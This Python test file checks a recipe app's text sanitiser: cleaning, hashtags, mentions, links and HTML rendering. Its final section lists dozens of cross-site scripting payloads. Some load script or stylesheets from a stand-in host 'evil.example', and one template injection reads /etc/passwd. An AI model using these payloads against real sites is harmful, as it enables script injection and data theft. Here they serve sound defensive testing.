"""Words that people typed: cleaning, tags, mentions, links, and no script whatever they typed."""

from __future__ import annotations

import re
import sys
import timeit
import unicodedata
from urllib.parse import quote

import pytest
from bs4 import BeautifulSoup
from bs4.element import NavigableString
from bs4.element import Tag as Element

from mealshare.core.text import (
    LINK_REL,
    Rendered,
    Tag,
    clean_text,
    extract_mentions,
    extract_tags,
    normalise_tag,
    render_note,
    tokens,
)

ACCOUNTS = {"ada", "bob_1", "li_wei"}


def tag_url(key: str) -> str:
    return f"/tags/{quote(key)}"


def mention_url(name: str) -> str | None:
    return f"/@{name.lower()}" if name.lower() in ACCOUNTS else None


def render(source: str) -> Rendered:
    return render_note(source, tag_url=tag_url, mention_url=mention_url)


def tag_keys(text: str) -> list[str]:
    return [tag.key for tag in extract_tags(text)]


def links(text: str) -> list[str]:
    return [token.text for token in tokens(text) if token.kind == "link"]


def shown_text(html: str) -> str:
    """What a reader sees: the text of the parsed HTML, with its line ends and empty lines."""
    lines: list[str] = []
    for paragraph in BeautifulSoup(html, "html.parser").find_all("p"):
        for line_break in paragraph.find_all("br"):
            line_break.replace_with(NavigableString("\n"))
        lines.append(paragraph.get_text())
    return "\n\n".join(lines)


# --- Cleaning ---


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("soup", "soup"),
        ("  soup \t", "  soup"),
        ("a\r\nb\rc\x85d\u2028e\u2029f\vg\fh", "a\nb\nc\nd\ne\nf\ng\nh"),
        ("a  \nb\t\nc\u3000\n", "a\nb\nc"),
        ("\n\n a\n  b\n\n\nc\n\n", " a\n  b\n\n\nc"),
        ("cafe\u0301", "café"),
        ("\u1112\u1161\u11ab", "한"),
        ("a\x01\x1f\x7f\x9fb", "ab"),
        ("a\ufeffb\ufffe\uffff\ufdd0\U0001ffff", "ab"),
        ("run \u202eback\u202d", "run back"),
        # A control character between a letter and its accent does not keep them apart.
        ("e\x01\u0301", "é"),
        # What has to stay: joiners, emoji with skin and sex and flags, marks, isolates of mixed directions.
        ("👩🏽‍🍳🏴󠁧󠁢󠁥󠁮󠁧󠁿🇨🇳❤️", "👩🏽‍🍳🏴󠁧󠁢󠁥󠁮󠁧󠁿🇨🇳❤️"),
        ("می‌خواهم नमस्ते क्‍ष", "می‌خواهم नमस्ते क्‍ष"),
        ("\u2067שלום\u2069 ok", "\u2067שלום\u2069 ok"),
        # Nothing to be seen is nothing.
        ("", ""),
        (" \u3000\n\t", ""),
        ("\u200b\u200d\u2060\ufe0f", ""),
        ("\u3164\u2800\u115f", ""),
    ],
)
def test_clean_text_of_many_lines(typed: str, stored: str) -> None:
    assert clean_text(typed, multiline=True) == stored
    assert clean_text(stored, multiline=True) == stored


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("fried\nrice", "fried rice"),
        ("fried \r\n\r\n rice\t!", "fried rice !"),
        ("\tfried rice\n", "fried rice"),
        ("\u3000炒饭\u3000", "炒饭"),
        ("a\u2028b", "a b"),
    ],
)
def test_clean_text_of_one_line(typed: str, stored: str) -> None:
    assert clean_text(typed, multiline=False) == stored
    assert clean_text(stored, multiline=False) == stored


@pytest.mark.parametrize("bad", ["a\x00b", "\x00", "\ud800", "x\udfffy"])
@pytest.mark.parametrize("multiline", [True, False])
def test_nul_and_half_surrogates_are_refused(bad: str, multiline: bool) -> None:
    with pytest.raises(ValueError, match=r"^control_characters$"):
        clean_text(bad, multiline=multiline)
    with pytest.raises(ValueError, match=r"^control_characters$"):
        render(bad)


# --- Tags ---


@pytest.mark.parametrize(
    ("typed", "key", "display"),
    [
        ("#Ramen", "ramen", "Ramen"),
        ("Ramen", "ramen", "Ramen"),
        (" ＃麻辣 ", "麻辣", "麻辣"),
        ("ＲＡＭＥＮ", "ramen", "ＲＡＭＥＮ"),
        ("Straße", "strasse", "Straße"),
        ("cafe\u0301", "café", "café"),
        ("ﾗｰﾒﾝ", "ラーメン", "ﾗｰﾒﾝ"),
        ("김치찌개", "김치찌개", "김치찌개"),
        ("नमस्ते", "नमस्ते", "नमस्ते"),
        ("อาหารไทย", "อาหารไทย", "อาหารไทย"),
        ("می‌خواهم", "میخواهم", "می‌خواهم"),
        ("2026年", "2026年", "2026年"),
        ("no_1", "no_1", "no_1"),
        ("_a", "_a", "_a"),
        ("a" * 50, "a" * 50, "a" * 50),
    ],
)
def test_normalise_tag(typed: str, key: str, display: str) -> None:
    assert normalise_tag(typed) == Tag(key, display)
    assert normalise_tag(key).key == key


@pytest.mark.parametrize(
    ("typed", "code"),
    [
        ("", "tag_empty"),
        ("#", "tag_empty"),
        (" ＃ ", "tag_empty"),
        ("a" * 51, "tag_too_long"),
        ("ß" * 26, "tag_too_long"),
        ("##a", "tag_characters"),
        ("a b", "tag_characters"),
        ("a-b", "tag_characters"),
        ("a/b", "tag_characters"),
        ("<b>", "tag_characters"),
        ("a\x00", "tag_characters"),
        ("a\ud800", "tag_characters"),
        ("🍜", "tag_characters"),
        ("a\u202eb", "tag_characters"),
        ("a\u200b", "tag_characters"),
        ("\u200da", "tag_characters"),
        ("a\u200d", "tag_characters"),
        ("a\u200d\u200db", "tag_characters"),
        ("\ufdfa", "tag_characters"),  # One letter that folds to four words with spaces.
        ("123", "tag_letter"),
        ("１２３", "tag_letter"),
        ("___", "tag_letter"),
        ("1_2", "tag_letter"),
        ("\u0301a", "tag_letter"),
        ("\ufe0f", "tag_letter"),
        ("\u3164", "tag_letter"),
    ],
)
def test_what_is_no_tag(typed: str, code: str) -> None:
    with pytest.raises(ValueError, match=f"^{code}$"):
        normalise_tag(typed)


def test_the_key_of_a_key_is_itself_for_every_letter() -> None:
    unstable = []
    for number in range(sys.maxunicode + 1):
        letter = chr(number)
        if unicodedata.category(letter)[0] != "L" or 0xAC00 <= number < 0xD7A4 or 0x3400 <= number < 0x9FFF:
            continue
        try:
            key = normalise_tag(letter).key
        except ValueError:
            continue
        if not key or normalise_tag(key).key != key:
            unstable.append(letter)
    assert unstable == []


@pytest.mark.parametrize(
    ("text", "keys"),
    [
        ("#ramen", ["ramen"]),
        ("so good #Ramen, #soup!", ["ramen", "soup"]),
        ("(#ramen) \"#soup\" '#tea'", ["ramen", "soup", "tea"]),
        ("#ramen#soup", ["ramen", "soup"]),
        ("今天吃了#麻辣 火锅", ["麻辣"]),
        ("今天吃了＃麻辣。好吃", ["麻辣"]),
        ("#麻辣#火锅", ["麻辣", "火锅"]),
        ("#麻辣# 好吃", ["麻辣"]),
        ("食べた#ラーメン、#寿司！", ["ラーメン", "寿司"]),
        ("#김치찌개 #불고기", ["김치찌개", "불고기"]),
        ("#नमस्ते।", ["नमस्ते"]),
        ("#кофе #ΓΎΡΟΣ #قهوة", ["кофе", "γύροσ", "قهوة"]),
        ("#Ramen #ramen #ＲＡＭＥＮ", ["ramen"]),
        ("#ramen's #ramen-ya #ramen.", ["ramen"]),
        ("#2026 #１２ #___ # #", []),
        ("#2026年 #no1", ["2026年", "no1"]),
        ("C#minor a#b 1#a é#a", []),
        ("##ramen &#x27a; =#a", []),
        ("#️⃣ #🍜 #\u200dx", []),
        ("https://example.com/#ramen http://example.com/a?b=#soup", []),
        ("example.com/#ramen", []),
        ("#ramen\n#soup\t#tea", ["ramen", "soup", "tea"]),
        (f"#{'a' * 50} #{'b' * 51}", ["a" * 50]),
        ("#<script> #\"onload #'x", []),
        ("", []),
    ],
)
def test_tags_in_a_text(text: str, keys: list[str]) -> None:
    assert tag_keys(text) == keys
    assert [tag.key for tag in render(text).tags] == keys


def test_a_tag_keeps_how_it_was_first_written() -> None:
    assert extract_tags("#Ramen #RAMEN") == (Tag("ramen", "Ramen"),)
    rendered = render("#Ramen ＃ＲＡＭＥＮ")
    assert rendered.tags == (Tag("ramen", "Ramen"),)
    assert rendered.html == (
        '<p><a href="/tags/ramen" class="hashtag" rel="tag">#Ramen</a> '
        '<a href="/tags/ramen" class="hashtag" rel="tag">＃ＲＡＭＥＮ</a></p>'
    )


# --- Mentions ---


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("@ada", ["ada"]),
        ("with @Ada and @bob_1.", ["Ada", "bob_1"]),
        ("@ada @ADA", ["ada"]),
        ("和@li_wei一起吃", ["li_wei"]),
        ("(@ada)", ["ada"]),
        ("@ada's", ["ada"]),
        ("ada@example.com a.b@ada +@ada", []),
        ("@ada@example.com @ada@", []),
        ("@ab @" + "a" * 31, []),
        ("@adaé é", []),
        ("https://example.com/@ada /@ada", []),
        ("@@ada", []),
        ("@ ada @-ada", []),
    ],
)
def test_mentions_in_a_text(text: str, names: list[str]) -> None:
    assert list(extract_mentions(text)) == names


def test_only_a_name_that_exists_becomes_a_link() -> None:
    rendered = render("@Ada and @nobody, @ADA")
    assert rendered.mentions == ("Ada",)
    assert rendered.html == (
        '<p><a href="/@ada" class="mention">@Ada</a> and @nobody, <a href="/@ada" class="mention">@ADA</a></p>'
    )


def test_each_name_and_tag_is_looked_up_once() -> None:
    asked: list[str] = []

    def remember(value: str) -> str:
        asked.append(value)
        return "/x"

    render_note("@Ada @ada #Soup @ADA #soup @nobody", tag_url=remember, mention_url=remember)
    assert asked == ["Ada", "soup", "nobody"]


# --- Links ---


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("see https://example.com/a?b=c&d=e#f.", ["https://example.com/a?b=c&d=e#f"]),
        ("http://example.com, HTTPS://EXAMPLE.COM!", ["http://example.com", "HTTPS://EXAMPLE.COM"]),
        ("(https://en.wikipedia.org/wiki/Pho_(food))", ["https://en.wikipedia.org/wiki/Pho_(food)"]),
        ("看https://example.com/a，很好吃。", ["https://example.com/a"]),
        ("菜谱：https://example.com/麻婆豆腐。", ["https://example.com/麻婆豆腐"]),
        ("https://例え.jp/寿司", ["https://例え.jp/寿司"]),
        ("https://example.com/a\nhttps://example.com/b", ["https://example.com/a", "https://example.com/b"]),
        ("http://localhost:6543/x http://10.0.0.1/", ["http://localhost:6543/x", "http://10.0.0.1/"]),
        ("example.com www.example.com a@example.com", []),
        ("ftp://example.com //example.com mailto:a@example.com", []),
        ("javascript://example.com/%0aalert(1) data:text/html,x", []),
        ("xhttps://example.com a-http://example.com", []),
        ("https://bank.example@evil.example/ https://a:b@evil.example", []),
        ("https:// http:///x https://.", []),
        ('https://example.com/"onload="x', ["https://example.com/"]),
        ("https://example.com/<b>", ["https://example.com/"]),
    ],
)
def test_links_in_a_text(text: str, found: list[str]) -> None:
    assert links(text) == found


def test_a_link_is_marked_as_a_strangers() -> None:
    assert render("https://example.com/?a=1&b='").html == (
        f'<p><a href="https://example.com/?a=1&amp;b=" rel="{LINK_REL}">https://example.com/?a=1&amp;b=</a>\'</p>'
    )


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://example.com/short", "https://example.com/short"),
        ("https://example.com/" + "a" * 60, "example.com/" + "a" * 27 + "…"),
        ("https://example.com/" + "a" * 22, "example.com/" + "a" * 22),
        # The host is never cut: what stands at its end is who it is.
        (
            "https://bank.example.com.login.account.security.evil.example/x",
            "bank.example.com.login.account.security.evil.example…",
        ),
    ],
)
def test_long_links_are_shown_short_and_lead_to_the_whole(url: str, shown: str) -> None:
    anchor = BeautifulSoup(render(url).html, "html.parser").a
    assert anchor is not None
    assert anchor.get_text() == shown
    assert anchor["href"] == url


# --- Paragraphs ---


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("", ""),
        (" \n ", ""),
        ("a", "<p>a</p>"),
        ("a\nb", "<p>a<br>b</p>"),
        ("a\n\nb\n\n\n\nc", "<p>a</p><p>b</p><p>c</p>"),
        ("a\r\nb\r\n\r\nc", "<p>a<br>b</p><p>c</p>"),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>"),
        (
            "#a\n@ada",
            '<p><a href="/tags/a" class="hashtag" rel="tag">#a</a><br><a href="/@ada" class="mention">@ada</a></p>',
        ),
        ("👩🏽‍🍳❤️", "<p>👩🏽‍🍳❤️</p>"),
    ],
)
def test_paragraphs(source: str, html: str) -> None:
    assert render(source).html == html


@pytest.mark.parametrize(
    "text",
    [
        "",
        "plain",
        "#a @ada https://example.com/ x #b",
        "#a#b##c @@ada",
        "https://x@y #1 @ab\n\n",
        "看https://a.cn，#好",
    ],
)
def test_the_pieces_joined_are_the_text(text: str) -> None:
    assert "".join(token.text for token in tokens(text)) == text


# --- No script, whatever was typed ---

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</p><script>alert(1)</script><p>",
    "<<script>script>alert(1)<</script>/script>",
    "<script\x0btype=x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    '<a href="https://example.com" onclick=alert(1)>x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/'onmouseover='alert(1)",
    'https://example.com/x"onmouseover=alert(1)//',
    "https://example.com/&quot;onmouseover=alert(1)",
    "https://example.com/<svg/onload=alert(1)>",
    "https://example.com/?q=javascript:alert(1)",
    "https://javascript:alert(1)",
    "http://example.com/`onclick=alert(1)`",
    "#<script>alert(1)</script>",
    '#a"onclick=alert(1)',
    "#a'><img src=x onerror=alert(1)>",
    "＃＜script＞alert(1)＜/script＞",
    '@ada"onclick=alert(1)',
    "@ada<img src=x onerror=alert(1)>",
    "@<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "${7*7} {{7*7}} <%= 7*7 %> #{7*7}",
    "<tal:x content=\"structure python:open('/etc/passwd').read()\">",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<\u0130mg src=x onerror=alert(1)>",
    "ſcript <ſcript>alert(1)</ſcript>",
    "<a\u2028href=javascript:alert(1)>x</a>",
    '<p><br><a href="/tags/x" class="hashtag" rel="tag">#not</a></p>',
]

WRAPPINGS = ["{}", "before {} after", "#tag{}", "@ada {}\n\n{}", "https://example.com/{}", "\n{}\n"]


@pytest.mark.parametrize("wrapping", WRAPPINGS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_script_runs_and_the_text_is_unaltered(payload: str, wrapping: str) -> None:
    source = wrapping.replace("{}", payload)
    html = render(source).html
    page = BeautifulSoup(html, "html.parser")
    for element in page.find_all(True):
        assert isinstance(element, Element)
        assert element.name in {"p", "br", "a"}
        assert set(element.attrs) <= ({"href", "rel", "class"} if element.name == "a" else set())
        if element.name == "a":
            assert re.match(r"https?://|/tags/|/@", str(element["href"]), re.IGNORECASE)
    # Nothing in the markup but our three elements opens a tag.
    assert (
        re.sub(r'</?p>|<br>|</a>|<a href="[^"<>]*"(?: class="[a-z]+")?(?: rel="[a-z ]+")?>', "", html).find("<") == -1
    )
    # Put the whole of a shortened address back: all the rest has to be as it was typed.
    for anchor in page.find_all("a"):
        if anchor.get_text().endswith("…") or str(anchor["href"]).partition("//")[2] == anchor.get_text():
            anchor.string = str(anchor["href"])
    assert shown_text(str(page)) == re.sub(r"\n{2,}", "\n\n", clean_text(source, multiline=True))


def test_the_last_pass_holds_where_an_address_is_hostile() -> None:
    html = render_note("#a @ada", tag_url=lambda key: "javascript:alert(1)", mention_url=lambda name: "data:,x").html
    assert "javascript" not in html
    assert "data:" not in html
    html = render_note("#a", tag_url=lambda key: '/x"onclick="alert(1)', mention_url=mention_url).html
    anchor = BeautifulSoup(html, "html.parser").a
    assert anchor is not None
    assert set(anchor.attrs) == {"href", "class", "rel"}


@pytest.mark.parametrize(
    "unit",
    ["https://a", "http://", "https://a.b/(", "#", "#a", "@", "@ada", "#a#", "@a.b", "https://a.b?", "<", "\n", " \n",
     "a\u200d", "#\u0301", "https://x.y/)", "https://" + "a-" * 20, "https://1.1.1.", "&", "　", "https:", "ﷺ", "#ﷺ"],
)  # fmt: skip
def test_repeated_patterns_take_no_longer_than_plain_words(unit: str) -> None:
    source = (unit * 4000)[:4000]
    assert min(timeit.repeat(lambda: render(source), number=1, repeat=2)) < 0.5
